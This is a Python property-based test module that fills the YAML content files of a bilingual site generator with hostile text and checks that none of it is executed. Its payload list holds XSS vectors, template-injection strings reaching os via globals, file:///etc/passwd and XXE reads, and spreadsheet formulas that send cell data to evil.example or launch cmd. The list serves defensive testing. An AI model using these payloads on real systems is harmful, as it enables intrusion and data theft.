"""Hostile text, and content folders of every entry kind with hostile text in every text field.

A content folder is drawn from SKELETONS: one entry of each kind (two cases, a competition site, a
milestone, the home and about pages, a plan table, an exhibition, documents.yaml) with every
optional part present, and a hole wherever the models hold text (`TEXT`: a bilingual Text,
`MARKDOWN`: a Text that is Markdown, `WORDS`: a plain string that is shown, such as a cited
section). test_fields.py checks, from the models themselves, that the skeletons leave no text
field out.

Each drawn folder can be written twice: as drawn (`Content.files("hostile")`) and as its
*sentinel twin* (`Content.files("sentinel")`), where each hole holds a plain token such as
Qz0012zQ instead, with the same shape (English present or not, equal to the Chinese or not). The
twin shows where each text lands (which page, which element, which cell); the hostile folder must
show the expected text exactly there and change nothing else.
"""

from __future__ import annotations

import copy
import re
from dataclasses import dataclass, field

import yaml
from hypothesis import strategies as st

from generator.content.clean import UNWANTED, clean_text
from generator.diagnostics import format_path
from generator.load import MAX_FILE_BYTES


# --- holes --------------------------------------------------------------------------------

@dataclass(frozen=True)
class Hole:
    kind: str  # "text" (a Text), "markdown" (a Text holding Markdown), "words" (a plain str)


TEXT, MARKDOWN, WORDS = Hole("text"), Hole("markdown"), Hole("words")

CHANGNING = {"lat": 31.2190, "lon": 121.4250}  # inside Changning district
JIADING = {"lat": 31.3830, "lon": 121.2500}  # inside Jiading district


def _media(name: str, **extra) -> dict:
    return {"file": name, **extra, "caption": TEXT, "alt": TEXT, "credit": TEXT}


SKELETONS: dict[str, dict] = {
    "documents.yaml": {"documents": [
        {"id": "hostile-doc", "number": WORDS, "title": TEXT, "issuer": TEXT, "date": "2024-04-09", "note": TEXT},
    ]},
    "excellent/hostile-case.yaml": {
        "id": "hostile-case", "illustrative": True, "title": TEXT, "district": "changning", "street": TEXT,
        "year": 2024, "award": "city", "types": ["renminfang", "public-space"], "services": ["culture", "elderly-care"],
        "construction": "renewal", "status": "in-operation", "completed": "2024-05", "floor_area_m2": 1200,
        "site_area_m2": 3000, "location": {**CHANGNING, "approximate": True, "note": TEXT}, "address": TEXT,
        "summary": TEXT, "body": MARKDOWN,
        "media": [_media("photo.jpg"), _media("before.jpg", kind="before", pair="view"),
                  _media("after.jpg", kind="after", pair="view"),
                  {"kind": "video", "url": "https://v.qq.com/x/page/hostile.html", "caption": TEXT, "alt": TEXT, "credit": TEXT}],
        "participation": [{"kind": "consultation", "date": "2023-05", "summary": TEXT, "participants": 12}],
        "sources": [{"document": "hostile-doc", "section": WORDS}],
    },
    # a second case with only what is required (and a place): the optional parts absent, a
    # different year so that no order depends on the drawn titles
    "excellent/hostile-plain.yaml": {
        "id": "hostile-plain", "title": TEXT, "district": "jiading", "year": 2023, "types": ["street-vitality"],
        "services": ["culture"], "summary": TEXT, "location": JIADING,
    },
    "competition/hostile-site.yaml": {
        "id": "hostile-site", "year": 2024, "number": 1, "district": "changning", "street": TEXT, "name": TEXT,
        "construction": "new", "floor_area_m2": 1915, "location": {**CHANGNING, "approximate": True, "note": TEXT},
        "case": "hostile-case", "summary": TEXT, "body": MARKDOWN, "media": [_media("photo.jpg")],
        "sources": [{"document": "hostile-doc", "section": WORDS}],
    },
    "milestones/hostile-milestone.yaml": {
        "id": "hostile-milestone", "illustrative": True, "date": "2024-04-09", "title": TEXT, "body": MARKDOWN,
        "documents": [{"document": "hostile-doc", "section": WORDS}], "media": [_media("photo.jpg")],
        "sources": [{"document": "hostile-doc", "section": WORDS}],
    },
    "pages/home.yaml": {"id": "home", "title": TEXT, "summary": TEXT, "body": MARKDOWN},
    "pages/about.yaml": {"id": "about", "title": TEXT, "summary": TEXT, "body": MARKDOWN,
                         "sources": [{"document": "hostile-doc", "section": WORDS}]},
    "statistics/hostile-plan.yaml": {
        "id": "hostile-plan", "year": 2024, "title": TEXT, "note": TEXT,
        "rows": [{"row": 1, "district": "changning", "projects": 110, "completed": 100, "renminfang": 2,
                  "renminfang_completed": 2, "liuyiting": 1, "liuyiting_completed": 1},
                 {"row": 2, "district": "jiading", "projects": 144, "completed": 108, "renminfang": 4,
                  "renminfang_completed": 2, "liuyiting": 1, "liuyiting_completed": 1}],
        "totals": {"projects": 254, "completed": 208, "renminfang": 6, "renminfang_completed": 4, "liuyiting": 2,
                   "liuyiting_completed": 2},
        "sources": [{"document": "hostile-doc", "section": WORDS}],
    },
    "exhibitions/hostile-exhibition.yaml": {
        "id": "hostile-exhibition", "title": TEXT, "subtitle": TEXT, "opens": "2024-07", "closes": "2024-09",
        "venue": TEXT, "organisers": [TEXT, TEXT], "cover": "cover.jpg", "introduction": MARKDOWN,
        "rooms": [
            {"title": TEXT, "text": MARKDOWN, "items": [
                {"case": "hostile-case", "caption": TEXT}, {"site": "hostile-site"},
                {"milestone": "hostile-milestone", "caption": TEXT}, {"media": "cover.jpg", "caption": TEXT}]},
            {"title": TEXT, "items": [{"case": "hostile-plain"}, {"media": "model.jpg"}]},
        ],
        "media": [_media("cover.jpg"), _media("model.jpg", kind="model")],
        "sources": [{"document": "hostile-doc", "section": WORDS}],
    },
    "glossary/hostile-term.yaml": {
        "id": "hostile-term", "term": TEXT, "aliases": {"zh": [WORDS], "en": [WORDS]}, "short": TEXT,
        "definition": MARKDOWN, "cases": ["hostile-case"], "sites": ["hostile-site"],
        "sources": [{"document": "hostile-doc", "section": WORDS}],
    },
}
# the image files each skeleton names (written by the test as small JPEGs)
MEDIA_FILES = {
    "excellent/hostile-case": ["photo.jpg", "before.jpg", "after.jpg"],
    "competition/hostile-site": ["photo.jpg"],
    "milestones/hostile-milestone": ["photo.jpg"],
    "exhibitions/hostile-exhibition": ["cover.jpg", "model.jpg"],
}


def holes(data, loc: tuple = ()):
    """(loc, hole) for every hole in `data`, in document order."""
    if isinstance(data, Hole):
        yield loc, data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from holes(value, loc + (key,))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from holes(value, loc + (index,))


def every_hole() -> list[tuple[str, tuple, Hole]]:
    return [(name, loc, hole) for name, skeleton in SKELETONS.items() for loc, hole in holes(skeleton)]


# --- hostile text -------------------------------------------------------------------------

# Evaluating any of these would produce "zqxj", which no input contains: its presence anywhere
# in the output means that text was run as code.
CANARY = "zqxj"
EVALUATED = ["{{ 'zq' ~ 'xj' }}", "{{'zq'+'xj'}}", "{% if 1 %}zq{{ 'xj' }}{% endif %}", "${'zq'+'xj'}", "#{'zq'+'xj'}",
             "<%= 'zq' + 'xj' %>", "{{ ['zq','xj']|join }}", "{{ 'jxqz'|reverse }}"]
PAYLOADS = [
    # HTML and JavaScript
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<iframe src=//evil.example/></iframe>", '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)", '"><b>bold</b>', "' onmouseover='alert(1)", "<b>bold</b>", "&lt;script&gt;", "&amp;",
    "&#x3C;b&#x3E;", "&nbsp;", "<!--", "-->", "<![CDATA[x]]>", "</textarea>", "</title>", "</noscript>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>", "<form action=//evil.example/><input name=x>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "\u2028alert(1)\u2029",
    # CSS and WeasyPrint
    "</style><style>*{display:none}</style>", "<style>@import url(//evil.example/x.css)</style>",
    "url(file:///etc/passwd)", "<link rel=stylesheet href=file:///etc/passwd>", "@page { size: 1mm }",
    '<img src="file:///etc/passwd">', "attachment:file:///etc/passwd", "}body{display:none}",
    # templates (Jinja, JavaScript template literals, str.format, printf)
    "{{ 7*7 }}", "{{ cycler.__init__.__globals__.os.getcwd() }}", "{% raw %}", "{% endraw %}", "{# c", "{%", "}}",
    "{{", "`${1}`", "{0}", "{title}", "{!r}", "%s", "%(x)s", "%n", "\\", "\\u0041", "\\n", "$&", "$1",
    *EVALUATED,
    # spreadsheet formulas (= + - @, tab and CR at the start)
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1",
    "=cmd|' /C calc'!A0", "#N/A", "#REF!", "=", "-", "+", "@",
    # Markdown
    "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "<a href=x onclick=alert(1)>x</a>",
    "[x]: javascript:alert(1)", "# heading", "* item", "1. item", "> quote", "    code", "| a | b |\n|---|---|",
    "**bold**", "_em_", "`code`", "---", "***", "<div>", "</div>",
    # YAML look-alikes (the loader sees them quoted; they must stay text)
    "- a", ": x", "? x", "&anchor", "*alias", "!!binary", "|", ">", "'", '"', "%YAML 1.1", "...", "null", "true",
    "2024-02-30", "0x1F", "1e309", ".inf", "~",
    # XML in the Office files
    "]]>", "</w:t>", "<w:p>", '<?xml version="1.0"?>', "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    # Unicode: bidirectional marks, invisible and odd characters
    "\u202e", "\u202d", "\u202a", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u200e", "\u061c",
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u3000", "\u00a0", "\u2028", "\u2029",
    "\U0001F468\u200D\U0001F469\u200D\U0001F467", "e\u0301\u0301\u0301", "Ａ＝１＋１", "\ufdfd", "\ufdd0", "\U0010FFFF",
    "\U0001D54F", "𠀀", "\u0600", "\u180e", "\ufff9", "\ufffd",
    # control characters (the loader removes them with a warning)
    "\x00", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x85", "\x9b", "\x01", "\x1f", "\ufffe", "\uffff",
    # line breaks
    "\n", "\r\n", "\r", "\n\n", "  \n", "\t",
]
WORDS_LIST = ["人民坊", "六艺亭", "社区", "长宁区", "一图三会", "Renminfang", "community", "centre", "x", "1", "2024"]
LONG_WORD_CHARACTERS = ["a", "长", "=", "<", "\u202e", "W", "{", "&", "é", "😀", "-", "\u200b"]

_any_character = st.characters(codec="utf-8")  # every code point but the surrogates
_words = st.lists(st.sampled_from(WORDS_LIST), min_size=1, max_size=4).map(" ".join)
_long_word = st.builds(lambda ch, n: ch * n, st.sampled_from(LONG_WORD_CHARACTERS), st.integers(1_000, 6_000))
_chunk = st.one_of(
    st.sampled_from(PAYLOADS), st.sampled_from(PAYLOADS), st.sampled_from(PAYLOADS),
    st.text(_any_character, max_size=12), st.text(_any_character, max_size=12),
    _words, _words,
    st.integers(0, 29).flatmap(lambda n: _long_word if n == 29 else st.just("")),  # a long word now and then
)


def visible(text: str) -> bool:
    """Whether `text` keeps anything once the loader has cleaned and stripped it."""
    return bool(clean_text(text)[0].strip())


hostile_text = st.lists(_chunk, min_size=1, max_size=5).map("".join)
# what a required text is drawn from: never empty once cleaned (blank texts are drawn on purpose,
# see BROKEN)
shown_text = hostile_text.map(lambda s: s if visible(s) else s + "字")
# a cited section that English pages show as written: without the section names that they put
# into English (任务9 -> Task 9) and the separator they respace (see render/citations.py)
section_text = hostile_text.map(lambda s: re.sub("任务|附件|开篇|名词解释|；", "·", s))


@st.composite
def text_value(draw, hole: Hole):
    """What a YAML file holds for one hole, in one of the ways people write it."""
    if hole.kind == "words":
        return draw(section_text)
    zh = draw(shown_text)
    form = draw(st.sampled_from(["both", "both", "zh only", "plain", "same", "blank en"]))
    if form == "both":
        return {"zh": zh, "en": draw(hostile_text)}
    if form == "zh only":
        return {"zh": zh}
    if form == "plain":
        return zh
    if form == "same":
        return {"zh": zh, "en": zh}
    return {"zh": zh, "en": draw(st.sampled_from(["", "  ", "\x0b", "\u3000"]))}


# One hole in an example may be broken on purpose: a Chinese text that is blank once cleaned (an
# error at its field), or a lone surrogate, which YAML cannot carry (an error at its line).
BLANKS = ["", "   ", "\x0b\x1b", "\u3000\n", "\t", "\x00"]
BROKEN = [None] * 8 + ["blank", "surrogate"]


# --- a drawn content folder ------------------------------------------------------------------

TOKEN = re.compile(r"Qz\d{4}[zes]Q")


def token(index: int, part: str) -> str:
    return f"Qz{index:04d}{part}Q"


def expected(value: str | None) -> str | None:
    """A text as the site shows it: the loader's cleaning, pydantic's strip; None when empty."""
    if value is None:
        return None
    text = clean_text(value)[0].strip()
    return text or None


@dataclass
class Content:
    values: list  # one per hole of every_hole(), as written in YAML
    broken: tuple | None = None  # (hole number, how) when one hole is broken on purpose
    _yaml: dict = field(default_factory=dict, repr=False)

    @classmethod
    def plain(cls, **texts) -> Content:
        """Plain text in every hole; `texts` ({"excellent/hostile-case.yaml:title": value, ...})
        put a chosen value into chosen holes (regression tests)."""
        values = ["1.2" if hole.kind == "words" else {"zh": "示例", "en": "Example"} for _n, _l, hole in every_hole()]
        content = cls(values)
        for where, value in texts.items():
            content.values[content.hole(where)] = value
        return content

    @staticmethod
    def hole(where: str) -> int:
        """The number of the hole "file:field" (the field as diagnostics name it, media[1].alt)."""
        for number, (name, loc, _hole) in enumerate(every_hole()):
            if f"{name}:{format_path(loc)}" == where:
                return number
        raise KeyError(where)

    def __repr__(self) -> str:
        named = {f"{name}:{format_path(loc)}": value for (name, loc, _h), value in zip(every_hole(), self.values)}
        return f"Content(broken={self.broken!r}, values={named!r})"

    # --- the files --------------------------------------------------------------------------
    def files(self, which: str = "hostile") -> dict[str, dict]:
        """Relative path -> the data of each YAML file, with the drawn text ("hostile") or the
        tokens of the sentinel twin ("sentinel")."""
        out = copy.deepcopy({name: _plain_skeleton(skeleton) for name, skeleton in SKELETONS.items()})
        for number, (name, loc, hole) in enumerate(every_hole()):
            value = self.values[number] if which == "hostile" else self._sentinel(number, hole)
            _put(out[name], loc, value)
        return out

    def yaml_texts(self, which: str = "hostile") -> dict[str, str]:
        if which not in self._yaml:
            self._yaml[which] = {name: yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
                                 for name, data in self.files(which).items()}
        return self._yaml[which]

    # --- what the loader reads (libyaml, as the project's loader) ---------------------------
    def as_read(self, number: int):
        """The value of hole `number` as YAML hands it to the loader (None: the file does not parse)."""
        name, loc, _hole = every_hole()[number]
        data = read_as_loader(self.yaml_texts()[name])
        if data is None:
            return None
        for part in loc:
            data = data[part]
        return data

    def shown(self, number: int) -> tuple[str | None, str | None]:
        """(Chinese, English) of hole `number` as the site shows them; English None when absent
        (the page then shows the Chinese, marked). For a plain-string hole: (text, None)."""
        value = self.as_read(number)
        if isinstance(value, dict):
            zh, en = expected(value.get("zh")), expected(value.get("en"))
            return zh, en
        return expected(value), None

    def unreadable_files(self) -> dict[str, str]:
        """Files the loader must refuse as a whole: file name -> the error code."""
        out = {}
        for name, text in self.yaml_texts().items():
            if len(text.encode("utf-8")) > MAX_FILE_BYTES:
                out[name] = "file_too_large"
            elif read_as_loader(text) is None:
                out[name] = "yaml_syntax"
        return out

    def blank_fields(self) -> dict[str, dict[str, set[int]]]:
        """File name -> {field (as diagnostics name it): its possible lines} of the texts that
        must be reported blank."""
        out: dict[str, dict[str, set[int]]] = {}
        unreadable = self.unreadable_files()
        for number, (name, loc, hole) in enumerate(every_hole()):
            if name in unreadable or hole.kind == "words":
                continue
            if self.shown(number)[0] is None:
                out.setdefault(name, {})[format_path(loc)] = self.lines_of(number)
        return out

    def lines_of(self, number: int) -> set[int]:
        """The lines of hole `number`'s key and of its zh key, counted in line feeds as editors
        count them (YAML readers also count U+2028, U+2029 and U+0085 as line breaks)."""
        name, loc, _hole = every_hole()[number]
        text = self.yaml_texts()[name]
        node = yaml.compose(text, Loader=yaml.SafeLoader)
        found = set()
        for part in (*loc, "zh"):
            if isinstance(node, yaml.MappingNode):
                pair = next(((k, v) for k, v in node.value if k.value == part), None)
                if pair is None:
                    break
                found.add(text.count("\n", 0, pair[0].start_mark.index) + 1)
                node = pair[1]
            elif isinstance(node, yaml.SequenceNode) and isinstance(part, int):
                node = node.value[part]
            else:
                break
        return found

    def substitutions(self) -> dict[str, str]:
        """Token of the sentinel twin -> the text the hostile folder shows in its place."""
        out = {}
        for number, (_name, _loc, hole) in enumerate(every_hole()):
            zh, en = self.shown(number)
            if hole.kind == "words":
                out[token(number, "s")] = zh or ""
            else:
                out[token(number, "z")] = zh or ""
                if en is not None:
                    out[token(number, "e")] = en
        return out

    def markdown_tokens(self) -> set[str]:
        return {token(n, p) for n, (_f, _l, hole) in enumerate(every_hole()) if hole.kind == "markdown" for p in "ze"}

    def _sentinel(self, number: int, hole: Hole):
        zh, en = self.shown(number)
        if hole.kind == "words":
            return token(number, "s") if zh else ""
        if en is None:
            return {"zh": token(number, "z")}
        return {"zh": token(number, "z"), "en": token(number, "z") if en == zh else token(number, "e")}


def _plain_skeleton(data):
    if isinstance(data, Hole):
        return None
    if isinstance(data, dict):
        return {k: _plain_skeleton(v) for k, v in data.items()}
    if isinstance(data, list):
        return [_plain_skeleton(v) for v in data]
    return data


def _put(data, loc: tuple, value) -> None:
    for part in loc[:-1]:
        data = data[part]
    data[loc[-1]] = value


def read_as_loader(text: str):
    """The file as the loader reads it (generator.load.neutralise: CR LF and CR are line breaks,
    NEL is left to YAML, a raw unwanted character stands in while YAML reads its line, so
    `section: <U+202E>1.2` stays the text 1.2); the stand-ins are taken out of the values with
    the rest of the unwanted characters by `expected`."""
    from generator.load import neutralise

    try:
        return yaml.load(neutralise(text)[0], Loader=yaml.CSafeLoader)
    except (yaml.YAMLError, ValueError, OverflowError):  # 2024-02-30 is a timestamp YAML cannot build
        return None


@st.composite
def contents(draw) -> Content:
    """A content folder with hostile text in every hole of every skeleton."""
    every = every_hole()
    values = [draw(text_value(hole)) for _name, _loc, hole in every]
    broken = draw(st.sampled_from(BROKEN))
    where = None
    if broken is not None:
        texts = [n for n, (_f, _l, hole) in enumerate(every) if hole.kind != "words"]
        where = draw(st.sampled_from(texts))
        value = values[where]
        replacement = draw(st.sampled_from(BLANKS)) if broken == "blank" else draw(shown_text) + "\ud800"
        values[where] = {**value, "zh": replacement} if isinstance(value, dict) else replacement
    return Content(values, (where, broken) if broken else None)
